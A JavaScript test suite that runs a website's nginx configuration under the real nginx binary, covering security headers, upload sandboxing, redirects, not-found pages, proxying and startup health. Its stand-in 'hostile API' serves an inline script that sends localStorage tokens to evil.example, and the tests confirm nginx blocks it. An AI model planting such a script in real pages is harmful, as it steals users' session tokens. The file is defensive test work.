// The production nginx config (infra/nginx) checked with the real nginx binary: `nginx -t`, then
// serving a folder the builder built and switched, and proxying to a stand-in API found through
// a stand-in for Docker's DNS (support/nginx.mjs). Skipped where nginx is not installed
// (Debian: apt-get install nginx-light libnginx-mod-http-brotli-filter).
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';

import { KINDS } from '@portfolio/contract/kinds';
import { SECURITY_HEADERS, UPLOAD_CSP } from '@portfolio/contract/security-headers';
import { parse as parseYaml } from 'yaml';

import { SiteBuilder } from '../builder/builder.mjs';
import { loadBuilderConfig } from '../builder/config.mjs';
import {
  checkNginx,
  freePort,
  HAS_BROTLI,
  NO_NGINX,
  request,
  ROOT,
  startDns,
  startNginx,
  until,
  writeNginxConfig,
} from './support/nginx.mjs';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const get = (port, urlPath, headers = {}) => request(port, urlPath, { headers });

/** A builder over a temp folder whose "site build" writes the text in `control/content`. */
async function fakeBuilder(tmp) {
  const control = path.join(tmp, 'control');
  await mkdir(control, { recursive: true });
  process.env.FAKE_SITE_CONTROL = control;
  const config = loadBuilderConfig({
    REBUILD_WEBHOOK_SECRET: 'nginx-test-secret-0123456789',
    VAR_DIR: path.join(tmp, 'var'),
    BUILD_COMMAND: `"${process.execPath}" "${path.join(HERE, 'fixtures/fake-site-build.mjs')}"`,
    BUILD_API_WAIT_MS: '0',
  });
  const builder = await new SiteBuilder(config, { log: () => {} }).init();
  chmodSync(path.join(tmp, 'var'), 0o755);
  return {
    builder,
    liveLink: config.liveLink,
    async publish(content) {
      writeFileSync(path.join(control, 'content'), content);
      builder.request({ reason: 'test' });
      await builder.whenIdle();
      assert.equal(builder.lastBuild.ok, true);
    },
  };
}

/** A stand-in API on `host:port` that records what reached it and says who answered. */
async function standInApi(name, host = '127.0.0.1', port = 0) {
  const requests = [];
  const server = http.createServer((req, res) => {
    requests.push({ url: req.url, headers: req.headers });
    // A hostile or broken API: whatever it says a file is, nginx decides what /uploads/ answers.
    if (req.url.startsWith('/uploads/')) {
      res.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': "script-src 'unsafe-inline'" });
      return res.end('<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>');
    }
    res.writeHead(200, { 'content-type': 'application/json', 'x-content-type-options': 'nosniff' });
    res.end(JSON.stringify({ status: 'ok', server: name, padding: 'x'.repeat(1000) }));
  });
  await new Promise((resolve, reject) => server.once('error', reject).listen(port, host, resolve));
  return {
    port: server.address().port,
    requests,
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}

/** The nginx health check docker-compose.yml runs in the container, pointed at `port`. */
function composeHealthcheck(port) {
  const compose = parseYaml(readFileSync(path.join(ROOT, 'docker-compose.yml'), 'utf8'));
  const [kind, ...argv] = compose.services.nginx.healthcheck.test;
  assert.equal(kind, 'CMD');
  const command = argv.map((a) => a.replaceAll('/127.0.0.1/8080', `/127.0.0.1/${port}`));
  assert.notDeepEqual(command, argv, 'the health check asks nginx on its port 8080');
  return new Promise((resolve) =>
    execFile(command[0], command.slice(1), { timeout: 5000 }, (error) => resolve(error ? (error.code ?? 'error') : 0)),
  );
}

/** The `map $uri $not_found_page` of site.conf: its regex lines in order, and its default. */
function notFoundMap() {
  const conf = readFileSync(path.join(ROOT, 'infra/nginx/site.conf'), 'utf8');
  const block = /map \$uri \$not_found_page \{([^}]*)\}/.exec(conf)?.[1];
  assert.ok(block, 'site.conf has the not-found map');
  const lines = block
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l && !l.startsWith('#'));
  const rules = lines
    .filter((l) => l.startsWith('~'))
    .map((l) => /^~(\S+)\s+(\S+);$/.exec(l))
    .map(([, re, page]) => ({ re: new RegExp(re), page }));
  const fallback = /^default\s+(\S+);$/.exec(lines.find((l) => l.startsWith('default')))[1];
  // As nginx does: regexes in the order written, the first match wins, its captures substituted.
  return (uri) => {
    for (const { re, page } of rules) {
      const m = re.exec(uri);
      if (m) return page.replace(/\$(\d)/g, (_, n) => m[Number(n)]);
    }
    return fallback;
  };
}

// The map restates the kinds' addresses by hand: a kind added to the contract without its line here
// would get the generic page instead of its section's (the real nginx serves the map above and below).
describe("nginx's not-found map covers every content kind (@portfolio/contract/kinds)", () => {
  it("maps each kind's item pages, and their /ar/ addresses, to a section's not-found page", () => {
    const pageFor = notFoundMap();
    let checked = 0;
    for (const [kind, def] of Object.entries(KINDS)) {
      def.itemPages.forEach((page, i) => {
        for (const lang of ['', '/ar']) {
          const address = lang + page.path(7);
          const got = pageFor(address);
          assert.match(got, new RegExp(`^${lang}/404/\\w+\\.html$`), `${address} (${kind}) is mapped to a section's not-found page`);
          assert.equal(pageFor(`${address}/`), got, `${address}/ as ${address}`);
          // The kind's own page shows the kind's text (site/src/lib/not-found.ts names the page after the kind).
          if (i === 0 && def.labels.notFoundPage) assert.equal(got, `${lang}/404/${kind}.html`, address);
          checked++;
        }
      });
    }
    // A category's archive (`/essays/category/<slug>`, an Arabic slug too): its kind's archive page.
    for (const [kind, def] of Object.entries(KINDS)) {
      if (!def.category?.archive) continue;
      for (const lang of ['', '/ar']) {
        for (const slug of ['poetry', 'شعر']) {
          assert.equal(
            pageFor(lang + decodeURIComponent(def.category.archive(slug))),
            `${lang}/404/${kind}_category.html`,
            `${kind} ${slug}`,
          );
          checked++;
        }
      }
    }
    assert.ok(checked >= 18, `${checked} addresses checked`);
    assert.equal(pageFor('/no-such-page'), '/404.html');
    assert.equal(pageFor('/ar/no-such-page'), '/ar/404.html');
  });
});

describe('nginx (infra/nginx)', { skip: NO_NGINX }, () => {
  let tmp;
  let port;
  let nginx;
  let api;
  let dns;
  let site;

  before(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), 'nginx-test-'));
    chmodSync(tmp, 0o755); // nginx's workers run as www-data when the test runs as root
    site = await fakeBuilder(tmp);
    await site.publish(`version one ${'long enough to be worth compressing. '.repeat(40)}`);
    api = await standInApi('api');
    dns = await startDns({ 'admin-api': ['127.0.0.1'] });
    port = await freePort();
    const conf = writeNginxConfig(tmp, { port, apiPort: api.port, siteLive: site.liveLink, dnsPort: dns.port });
    const check = checkNginx(tmp, conf);
    assert.ok(check.ok, `nginx -t failed:\n${check.output}`);
    assert.match(check.output, /syntax is ok/);
    nginx = await startNginx(tmp, conf, port);
  });

  after(async () => {
    await nginx?.stop();
    await site?.builder.close();
    await api?.close();
    await dns?.close();
    if (tmp) await rm(tmp, { recursive: true, force: true });
  });

  it('serves pages revalidated on each visit, with the security headers', async () => {
    const res = await get(port, '/');
    assert.equal(res.status, 200);
    assert.equal(res.headers['content-type'], 'text/html; charset=utf-8');
    assert.equal(res.headers['cache-control'], 'no-cache');
    assert.ok(res.headers.etag || res.headers['last-modified']);
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    assert.equal(res.headers['x-frame-options'], 'SAMEORIGIN');
    assert.equal(res.headers['referrer-policy'], 'strict-origin-when-cross-origin');
    assert.match(res.headers['content-security-policy'], /default-src 'self'/);
    assert.equal(res.headers.server, 'nginx', 'no version in the Server header');
    assert.match(res.text, /version one/);
  });

  it('sends the security headers the API sends when it serves the site itself (one definition, @portfolio/contract/security-headers)', async () => {
    const conf = readFileSync(path.join(ROOT, 'infra/nginx/security-headers.conf'), 'utf8');
    const added = Object.fromEntries([...conf.matchAll(/^add_header ([\w-]+) "([^"]*)" always;$/gm)].map((m) => [m[1], m[2]]));
    assert.deepEqual(added, SECURITY_HEADERS);
    // The API sends the same set on /api/docs: nginx hides its copies, so each header is sent once.
    const proxyConf = readFileSync(path.join(ROOT, 'infra/nginx/proxy.conf'), 'utf8');
    const hidden = [...proxyConf.matchAll(/^proxy_hide_header ([\w-]+);$/gm)].map((m) => m[1]);
    assert.deepEqual(hidden.toSorted(), Object.keys(SECURITY_HEADERS).toSorted());
    for (const address of ['/', '/no-such-page']) {
      const res = await get(port, address);
      for (const [name, value] of Object.entries(SECURITY_HEADERS))
        assert.equal(res.headers[name.toLowerCase()], value, `${address}: ${name}`);
    }
  });

  it('answers /uploads/ only with an upload type, by the name, sandboxed, whatever the API answers', async () => {
    for (const p of [
      '/uploads/general/evil.html',
      '/uploads/general/evil.svg',
      '/uploads/general/evil.HTM',
      '/uploads/general/',
      '/uploads/a.jpg/evil.html',
    ]) {
      api.requests.length = 0;
      const res = await get(port, p);
      assert.equal(res.status, 404, p);
      assert.equal(api.requests.length, 0, `${p} never reaches the API`);
      assert.doesNotMatch(res.text, /localStorage/, p);
    }
    for (const [p, type] of [
      ['/uploads/general/page.jpg', 'image/jpeg'],
      ['/uploads/books/x-40x30.PNG', 'image/png'],
      ['/uploads/plays/script.pdf', 'application/pdf'],
      ['/uploads/news/a.webp', 'image/webp'],
    ]) {
      const res = await get(port, p);
      assert.equal(res.status, 200, p);
      const types = res.rawHeaders.filter((_, i) => i % 2 === 0 && res.rawHeaders[i].toLowerCase() === 'content-type').length;
      assert.equal(types, 1, `${p}: one Content-Type`);
      assert.equal(res.headers['content-type'], type, p);
      assert.equal(res.headers['x-content-type-options'], 'nosniff', p);
      const policies = res.rawHeaders.filter((_, i) => i % 2 === 1 && res.rawHeaders[i - 1].toLowerCase() === 'content-security-policy');
      assert.ok(policies.includes(UPLOAD_CSP), `${p}: sandboxed (${policies.join(' | ')})`);
      assert.ok(
        !policies.some((v) => v.includes('unsafe-inline') && !v.includes("default-src 'self'")),
        `${p}: the API's own policy is not passed on`,
      );
    }
  });

  it('sends /book/{id} to /books/{id} with a permanent redirect', async () => {
    const res = await get(port, '/book/42');
    assert.equal(res.status, 301);
    assert.equal(res.headers.location, '/books/42');
  });

  it('sends /ar/book/{id} to /ar/books/{id} with a permanent redirect', async () => {
    const res = await get(port, '/ar/book/42');
    assert.equal(res.status, 301);
    assert.equal(res.headers.location, '/ar/books/42');
  });

  it('caches hashed /_astro/ assets for a year', async () => {
    const res = await get(port, '/_astro/app.3f9a1c2b.js');
    assert.equal(res.status, 200);
    assert.equal(res.headers['cache-control'], 'public, max-age=31536000, immutable');
    assert.match(res.headers['content-type'], /javascript/);
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
  });

  it("answers unknown paths with the site's 404 page and a real 404 status", async () => {
    for (const p of ['/no-such-page', '/404.html', '/.git/config']) {
      const res = await get(port, p);
      assert.equal(res.status, 404, p);
      if (p !== '/.git/config') assert.match(res.text, /Page Not Found/, p);
    }
    assert.equal((await get(port, '/no-such-page')).headers['cache-control'], 'no-cache');
  });

  it("answers a missing item's address with its section's not-found page, in Arabic under /ar/", async () => {
    // The site's not-found pages (site/src/lib/not-found.ts), as the real build names them.
    const pages = [
      '404.html',
      'ar/404.html',
      ...['books', 'reviews', 'essays', 'news', 'plays'].flatMap((s) => [`404/${s}.html`, `ar/404/${s}.html`]),
    ];
    for (const file of pages) {
      await mkdir(path.join(site.liveLink, path.dirname(file)), { recursive: true });
      writeFileSync(path.join(site.liveLink, file), `<!doctype html><title>${file}</title>`);
    }
    const expected = {
      '/books/999': '404/books.html',
      '/books/999/': '404/books.html',
      '/book/7/reviews': '404/reviews.html',
      '/essays/3': '404/essays.html',
      '/news/3': '404/news.html',
      '/plays/3': '404/plays.html',
      '/ar/books/999': 'ar/404/books.html',
      '/ar/book/7/reviews': 'ar/404/reviews.html',
      '/ar/essays/3': 'ar/404/essays.html',
      '/ar/news/3/': 'ar/404/news.html',
      '/ar/plays/3': 'ar/404/plays.html',
      '/ar/no-such-page': 'ar/404.html',
      '/no-such-page': '404.html',
      '/books/abc': '404.html',
      '/404/books.html': '404.html',
    };
    for (const [address, file] of Object.entries(expected)) {
      const res = await get(port, address);
      assert.equal(res.status, 404, address);
      assert.equal(res.text, `<!doctype html><title>${file}</title>`, address);
      assert.equal(res.headers['cache-control'], 'no-cache', address);
      assert.match(res.headers['content-security-policy'], /default-src 'self'/, address);
    }
    // A site built before the section pages existed: the generic page.
    await rm(path.join(site.liveLink, '404'), { recursive: true });
    assert.equal((await get(port, '/books/999')).text, '<!doctype html><title>404.html</title>');
    assert.equal((await get(port, '/books/999')).status, 404);
  });

  it('compresses with gzip, and with brotli where the module is installed', async () => {
    const gz = await get(port, '/', { 'accept-encoding': 'gzip' });
    assert.equal(gz.headers['content-encoding'], 'gzip');
    assert.match(zlib.gunzipSync(gz.raw).toString(), /version one/);
    assert.match(gz.headers.vary ?? '', /Accept-Encoding/i);
    if (HAS_BROTLI) {
      const br = await get(port, '/', { 'accept-encoding': 'br' });
      assert.equal(br.headers['content-encoding'], 'br');
      assert.match(zlib.brotliDecompressSync(br.raw).toString(), /version one/);
    }
  });

  it('proxies /api, /uploads and /admin-ui to admin-api unchanged, query strings included', async () => {
    for (const p of [
      '/api/health',
      '/api/books?search=a%20b&lang=ar&page=2',
      '/api/admin/login',
      '/uploads/books/cover%20one.png?v=3',
      '/admin-ui/overlay.js?v=1a2b',
    ]) {
      api.requests.length = 0;
      const res = await get(port, p, { 'accept-encoding': 'gzip' });
      assert.equal(res.status, 200, p);
      assert.equal(api.requests.length, 1, `${p} reached the API`);
      assert.equal(api.requests[0].url, p);
      assert.equal(api.requests[0].headers['x-forwarded-proto'], 'http');
      assert.equal(res.headers['x-content-type-options'], 'nosniff', 'once, not repeated');
    }
    const json = await get(port, '/api/health', { 'accept-encoding': 'gzip' });
    assert.equal(json.headers['content-encoding'], 'gzip');
  });

  it("tells the API the client's address, whatever X-Forwarded-For the client made up", async () => {
    for (const p of ['/api/contacts', '/api/admin/login', '/uploads/x.png']) {
      api.requests.length = 0;
      await get(port, p, { 'x-forwarded-for': '203.0.113.7, 198.51.100.1', 'x-real-ip': '203.0.113.8' });
      assert.equal(api.requests[0].headers['x-forwarded-for'], '127.0.0.1', p);
      assert.equal(api.requests[0].headers['x-real-ip'], '127.0.0.1', p);
    }
    api.requests.length = 0;
    await request(port, '/api/health', { localAddress: '127.0.0.2' });
    assert.equal(api.requests[0].headers['x-forwarded-for'], '127.0.0.2', 'each client its own address');
  });

  it('serves a new build as soon as the builder switches the link, without a reload', async () => {
    await site.publish('version two');
    const res = await get(port, '/');
    assert.match(res.text, /version two/);
  });
});

describe('nginx on a fresh start: no site built yet, the API not running', { skip: NO_NGINX }, () => {
  let tmp;
  let port;
  let apiPort;
  let nginx;
  let dns;
  let site;
  const apis = [];

  before(async () => {
    tmp = await mkdtemp(path.join(os.tmpdir(), 'nginx-fresh-'));
    chmodSync(tmp, 0o755);
    site = await fakeBuilder(tmp);
    dns = await startDns({}); // `admin-api` does not exist yet, as before its container starts
    port = await freePort();
    apiPort = await freePort();
    const conf = writeNginxConfig(tmp, { port, apiPort, siteLive: site.liveLink, dnsPort: dns.port });
    const check = checkNginx(tmp, conf);
    assert.ok(check.ok, `nginx -t must pass while admin-api cannot be resolved:\n${check.output}`);
    nginx = await startNginx(tmp, conf, port);
  });

  after(async () => {
    await nginx?.stop();
    await site?.builder.close();
    for (const api of apis) await api.close();
    await dns?.close();
    if (tmp) await rm(tmp, { recursive: true, force: true });
  });

  it('is healthy for the compose health check, though there is neither a site nor an API', async () => {
    assert.equal(await composeHealthcheck(port), 0);
    assert.equal((await get(port, '/healthz')).status, 200);
  });

  it('answers every page with a bilingual "being prepared" page, 503 with Retry-After, until the first build', async () => {
    for (const p of ['/', '/books/', '/no-such-page']) {
      const res = await get(port, p);
      assert.equal(res.status, 503, p);
      assert.equal(res.headers['content-type'], 'text/html; charset=utf-8');
      assert.equal(res.headers['retry-after'], '30');
      assert.equal(res.headers['cache-control'], 'no-store');
      assert.match(res.headers['content-security-policy'], /default-src 'self'/);
      assert.match(res.text, /<html lang="en">/);
      assert.match(res.text, /The site is being prepared/);
      assert.match(res.text, /<section lang="ar" dir="rtl">\s*<h1>يجري تجهيز الموقع<\/h1>/);
      assert.doesNotMatch(res.text, /\s(?:src|href)=|url\(|@import/, 'self-contained: nothing else to load');
    }
  });

  it('answers /api, /uploads and /admin-ui with a 503 in the API error format while the API cannot be found', async () => {
    for (const p of ['/api/health', '/api/books?page=2', '/api/admin/login', '/uploads/books/cover.png', '/admin-ui/overlay.js']) {
      const res = await get(port, p);
      assert.equal(res.status, 503, p);
      assert.equal(res.headers['content-type'], 'application/json; charset=utf-8', p);
      assert.equal(res.headers['retry-after'], '10', p);
      assert.deepEqual(JSON.parse(res.text), {
        statusCode: 503,
        message: 'The service is temporarily unavailable. Please try again in a moment.',
      });
    }
    assert.ok(dns.queries.includes('admin-api'), 'nginx asked the DNS server for admin-api');
  });

  it('reaches the API once it starts, and follows it to a new address when its container is recreated, without a reload', async () => {
    const first = await standInApi('first', '127.0.0.1', apiPort);
    apis.push(first);
    dns.set('admin-api', ['127.0.0.1']);
    await until('the API through nginx', async () => (await get(port, '/api/health')).status === 200);
    assert.equal(JSON.parse((await get(port, '/api/health')).text).server, 'first');

    // Stopped: the name still resolves, the connection is refused.
    await first.close();
    apis.splice(apis.indexOf(first), 1);
    const down = await get(port, '/api/health');
    assert.equal(down.status, 503);
    assert.equal(JSON.parse(down.text).statusCode, 503);

    // Recreated: a new container, a new address.
    const second = await standInApi('second', '127.0.0.2', apiPort);
    apis.push(second);
    dns.set('admin-api', ['127.0.0.2']);
    await until(
      'nginx to follow the API to its new address',
      async () => JSON.parse((await get(port, '/api/health')).text).server === 'second',
    );
  });

  it('spreads requests over every API replica the DNS names (docker compose up --scale admin-api=2)', async () => {
    const other = await standInApi('other', '127.0.0.1', apiPort);
    apis.push(other);
    dns.set('admin-api', ['127.0.0.1', '127.0.0.2']);
    const seen = new Set();
    await until('both replicas to answer', async () => {
      seen.add(JSON.parse((await get(port, '/api/health')).text).server);
      return seen.has('other') && seen.has('second');
    });
  });

  it('serves the site once the first build is live', async () => {
    await site.publish('the real home page');
    const home = await get(port, '/');
    assert.equal(home.status, 200);
    assert.match(home.text, /the real home page/);
    assert.doesNotMatch(home.text, /being prepared/);
    const missing = await get(port, '/no-such-page');
    assert.equal(missing.status, 404);
    assert.match(missing.text, /Page Not Found/);
  });

  it('fails the health check once nginx is gone', async () => {
    await nginx.stop();
    assert.notEqual(await composeHealthcheck(port), 0);
  });
});
